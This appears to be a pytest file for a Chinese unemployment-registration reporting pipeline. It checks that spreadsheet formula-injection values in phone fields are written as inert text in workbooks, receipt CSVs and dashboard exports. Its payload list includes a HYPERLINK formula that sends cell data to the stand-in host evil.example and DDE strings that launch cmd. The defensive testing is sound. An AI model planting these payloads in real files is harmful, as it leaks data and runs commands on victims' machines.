"""Spreadsheet formula injection: a value a service point typed must open as text in every workbook and CSV.

Each payload below is quarantined (it is no phone number) and so printed in the district
workbook and the file's receipt; each must arrive as text, never as a live formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import duckdb
import openpyxl
import pytest

from flows.pipeline import sync_sources
from portal.dashboard import Dashboard, Figures
from portal.exports import to_csv, to_xlsx
from portal.i18n import labels
from reports.receipts import render_receipt
from reports.run import write_report
from tests.cases import BASE, SOURCE, TODAY, with_check
from tests.test_history import write_export
from tierhub.cells import FORMULA_STARTS, csv_cell
from tierhub.reference import divisions
from warehouse.marts import Expectations, week_of
from warehouse.schema import open_warehouse

HEPING = "120101000000"
PAYLOADS = {
    "equals_hyperlink_exfiltration": '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "plus_dde_command": "+1+cmd|' /C calc'!A0",
    "minus_dde_command": "-2+3+cmd|' /C calc'!A0",
    "at_sum_command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab_then_formula": "\t=1+1",
    "carriage_return_then_formula": "\r=1+1",
    "fullwidth_equals": "＝1+1",
}


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, duckdb.DuckDBPyConnection, int]:
    """A street's export whose phone cells hold formula payloads: (workbook, warehouse, file id)."""
    root = tmp_path_factory.mktemp("poisoned")
    rows = [
        {**BASE, "id_number": with_check(f"1201011980010110{n}"), "mobile_phone": payload}
        for n, payload in enumerate(PAYLOADS.values())
    ]
    write_export(root / "drops" / SOURCE[:6] / SOURCE, f"失业登记_{SOURCE}_20261105.csv", rows)
    con = open_warehouse(root / "warehouse.duckdb")
    sync_sources(con, root / "drops", [SOURCE], today=TODAY)
    [(file_id, quarantined)] = con.execute("SELECT file_id, rows_quarantined FROM ops.files").fetchall()
    assert quarantined == len(PAYLOADS)
    written = write_report(
        con, SOURCE[:6], week_of(dt.date(2026, 11, 5)), root / "out", expectations=Expectations(street_items=("JY02",))
    )
    return written.xlsx, con, int(file_id)


def _formulas(path: Path) -> list[str]:
    book = openpyxl.load_workbook(path)
    return [f"{s.title}!{c.coordinate}" for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("attack", list(PAYLOADS))
def test_formula_in_a_quarantined_value_opens_as_text_in_the_district_workbook(
    poisoned: tuple[Path, duckdb.DuckDBPyConnection, int], attack: str
) -> None:
    path, _, _ = poisoned
    assert _formulas(path) == []
    texts = {str(c.value).strip() for s in openpyxl.load_workbook(path) for row in s.iter_rows() for c in row}
    assert PAYLOADS[attack].strip() in texts  # listed, as text, for the clerk to correct


@pytest.mark.parametrize("attack", list(PAYLOADS))
def test_formula_in_a_quarantined_value_is_defused_in_the_receipt_csv(
    poisoned: tuple[Path, duckdb.DuckDBPyConnection, int], attack: str
) -> None:
    _, con, file_id = poisoned
    body = render_receipt(con, file_id).body.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert any(c.startswith("'") and c[1:].strip() == PAYLOADS[attack].strip() for c in cells)


@pytest.mark.parametrize("attack", list(PAYLOADS))
def test_formula_in_a_dashboard_label_opens_as_text_in_its_exports(tmp_path: Path, attack: str) -> None:
    payload = PAYLOADS[attack]
    rows = [Figures("120101001000", payload, files=1), Figures("120101002000", "劝业场街", files=2)]
    board = Dashboard(
        divisions().get(HEPING),
        [],
        week_of(dt.date(2026, 11, 5)),
        "2026-11",
        payload,
        rows,
        Figures(HEPING, "和平区"),
        rows,
        rows,
        False,
    )
    path = tmp_path / "board.xlsx"
    path.write_bytes(to_xlsx(board, labels("zh")))
    assert _formulas(path) == []
    cells = [c for row in csv.reader(io.StringIO(to_csv(board, labels("zh")).decode("utf-8-sig"))) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + payload in cells
    # The helpers every writer uses say the same.
    assert csv_cell(payload) == "'" + payload
